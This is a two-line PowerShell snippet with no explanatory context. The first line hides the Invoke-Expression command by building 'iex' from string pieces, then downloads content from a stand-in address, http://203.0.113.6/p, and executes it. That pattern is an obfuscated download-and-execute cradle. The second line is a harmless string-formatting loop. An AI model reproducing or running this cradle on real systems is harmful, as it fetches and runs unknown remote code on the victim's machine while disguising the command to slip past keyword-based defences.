
$x = "i"+"ex"; & $x (irm http://203.0.113.6/p).Content
1..3 | % { "{1}{0}" -f $_, [char]0x41 }
